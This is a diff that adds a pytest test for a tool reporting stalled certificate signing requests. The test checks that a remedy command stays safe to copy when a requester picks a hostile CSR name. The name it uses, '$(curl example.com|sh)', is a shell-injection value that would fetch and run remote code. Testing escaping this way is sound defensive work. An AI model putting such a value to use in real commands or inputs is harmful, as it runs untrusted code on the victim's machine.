@@ -61,6 +61,13 @@ def test_a_young_csr_does_not_wait(examine: Examine, api: Answers) -> None:
     assert waiting.waiting(examination).level == "ok"
 
 
+def test_the_remedys_command_is_safe_to_copy(examine: Examine, api: Answers) -> None:
+    """A requester chooses the CSR's name."""
+    examination = examine()
+    prepare(api, [csr(examination, OLDER, 60, name="$(curl example.com|sh)")])
+    assert "signerctl explain 'csr/$(curl example.com|sh)'" in waiting.waiting(examination).remedy
+
+
 REASONS = {"WaitingForOperator": "error", "WaitingForRequester": "warning", "WaitingForService": "warning"}
 
 
